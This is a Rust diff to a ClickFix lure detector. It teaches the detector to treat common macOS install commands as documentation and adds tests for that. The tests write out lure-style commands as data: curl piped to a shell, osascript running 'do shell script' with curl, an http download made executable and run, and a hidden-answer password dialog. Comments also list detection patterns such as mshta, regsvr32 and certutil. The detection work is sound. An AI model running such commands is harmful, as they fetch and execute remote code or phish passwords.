@@ -154,17 +154,23 @@ impl Command {
     /// A Windows command worth warning about next to run-dialog steps alone. A bare `cmd /c` or
     /// `rundll32` that fetches nothing is what IT help articles give for the Run box
     /// (`cmd /c ipconfig /flushdns`, `rundll32 sysdm.cpl,EditEnvironmentVariables`).
-    /// Only shapes that install docs give for PowerShell (Admin) or the Run box:
-    /// `irm … | iex`, a flagged `powershell`, `msiexec /i https://…`. Anything that hides a window,
-    /// encodes the script or goes through mshta, regsvr32, certutil … is never documentation.
+    /// Only shapes that install docs and tutorials give: `irm … | iex`, a flagged `powershell`,
+    /// `msiexec /i https://…` for PowerShell (Admin) or the Run box; `curl | sh`,
+    /// `curl -LO … && chmod +x` and an `osascript` that runs no shell and asks for no password
+    /// for Terminal. Anything that hides a window, encodes the script, decodes base64 into a
+    /// shell or goes through mshta, regsvr32, certutil … is never documentation.
     pub fn install_like(&self) -> bool {
         self.published
-            && self.shapes.iter().all(|s| {
-                s.platform() == Platform::Unix
-                    || matches!(
-                        s,
-                        Shape::PowerShellDownload | Shape::PowerShell | Shape::MsiexecUrl
-                    )
+            && self.shapes.iter().all(|s| match s {
+                Shape::PowerShellDownload
+                | Shape::PowerShell
+                | Shape::MsiexecUrl
+                | Shape::PipeToShell
+                | Shape::DownloadExec => true,
+                Shape::Osascript => !["shell script", "hidden answer", "password", "://"]
+                    .iter()
+                    .any(|w| has(&self.flat, w)),
+                _ => false,
             })
     }
 
@@ -504,9 +510,9 @@ fn split_padding(raw: &str) -> Option<(&str, &str)> {
 }
 
 /// Whether every address in `flat` is one an install page publishes: `https://` to a host name
-/// (not a bare IP), with no path or a path naming a `.ps1` script or an `.msi` package. Lures
-/// fetch `http://203.0.113.5/x`, `/verify`, `/p.txt`, a UNC share.
-fn published(flat: &str) -> bool {
+/// (not a bare IP); for a Windows command, with no path or a path naming a `.ps1` script or an
+/// `.msi` package. Lures fetch `http://203.0.113.5/x`, `/verify`, `/p.txt`, a UNC share.
+fn published(flat: &str, windows: bool) -> bool {
     if has(flat, "http:") || has(flat, "\\\\") || has(flat, "ftp:") {
         return false;
     }
@@ -523,7 +529,7 @@ fn published(flat: &str) -> bool {
             .is_some_and(|tld| tld.bytes().any(|b| b.is_ascii_alphabetic()));
         t[..i].ends_with("https")
             && tld_is_name
-            && (path.len() <= 1 || path.ends_with(".ps1") || path.ends_with(".msi"))
+            && (!windows || path.len() <= 1 || path.ends_with(".ps1") || path.ends_with(".msi"))
     })
 }
 
@@ -537,6 +543,7 @@ pub fn recognise(raw: &str) -> Option<Command> {
     if shapes.is_empty() {
         return None;
     }
+    let windows = shapes.iter().any(|s| s.platform() == Platform::Windows);
     let (cmd_part, tail) = padding.unwrap_or((raw.as_str(), ""));
     // The comment after the padding, or a trailing `# …` on one line, is what the person sees.
     let comment = if !tail.is_empty() {
@@ -554,7 +561,7 @@ pub fn recognise(raw: &str) -> Option<Command> {
         shown: defang(cmd_part),
         comment: defang(&comment.chars().take(60).collect::<String>()),
         flat: flatten(cmd_part),
-        published: published(&flat),
+        published: published(&flat, windows),
     })
 }
 
@@ -855,15 +862,16 @@ fn assess_command(command: Command, page: &PageHits) -> Option<ClickFix> {
         .map(|h| h.weight)
         .fold(0.0f32, f32::max)
         >= 1.0;
-    // Install docs send people to PowerShell (Admin) or the Run box too ("press Win+X, choose
-    // Terminal (Admin), paste"): with a command docs give and nothing dressing it up, they are
-    // documentation; a lure always adds its story (verify, fix, update, open the file).
+    // Install docs send people to PowerShell (Admin), the Run box or Terminal too ("press Win+X,
+    // choose Terminal (Admin), paste"): with a command docs give and nothing dressing it up, they
+    // are documentation; a lure always adds its story (verify, fix, update, open the file).
     let docs = command.install_like() && page.documents_install(&command);
     let windows_run = run_dialog && command.windows_payload() && !docs;
     // The Mac variant: Terminal and paste steps are what developer docs say too ("paste this in
-    // Terminal"); only a shape no install command has makes them ClickFix.
+    // Terminal"); only a strong shape outside install docs makes them ClickFix.
     let mac_run = terminal
         && paste
+        && !docs
         && command
             .shapes
             .iter()
@@ -1402,6 +1410,41 @@ mod tests {
             "curl -fsSL https://x.example/i | bash",
             "Open Terminal and paste it, press Return"
         ));
+        // Install docs and tutorials for Terminal: a binary fetched over https and made
+        // executable, an AppleScript one-liner that runs no shell; shown as copied or framed as
+        // an installation.
+        let get = "curl -LO https://dl.example.test/v1/darwin/otter && chmod +x otter && \
+                   sudo mv otter /usr/local/bin/";
+        assert!(!judged(
+            get,
+            &format!("Installation: open Terminal, paste and press Return.\n{get}\nCopy")
+        ));
+        let note = "osascript -e 'display notification \"Hello\" with title \"Demo\"'";
+        assert!(!judged(
+            note,
+            &format!("Tutorial: open Terminal, paste this line and press Return.\n{note}")
+        ));
+        // The same steps with a lure's command or story stay ClickFix.
+        for (clip, text) in [
+            (
+                get,
+                "Safari is out of date. Open Terminal, paste and press Return. Install.",
+            ),
+            (
+                "curl -o /tmp/v http://x.example/v && chmod +x /tmp/v && /tmp/v",
+                "Installation: open Terminal, paste and press Return.",
+            ),
+            (
+                "osascript -e 'do shell script \"curl -s https://x.example/u | sh\"'",
+                "Installation: open Terminal, paste and press Return.",
+            ),
+            (
+                "osascript -e 'display dialog \"Update\" default answer \"\" with hidden answer'",
+                "Installation: open Terminal, paste and press Return.",
+            ),
+        ] {
+            assert!(judged(clip, text), "{clip}");
+        }
     }
 
     #[test]
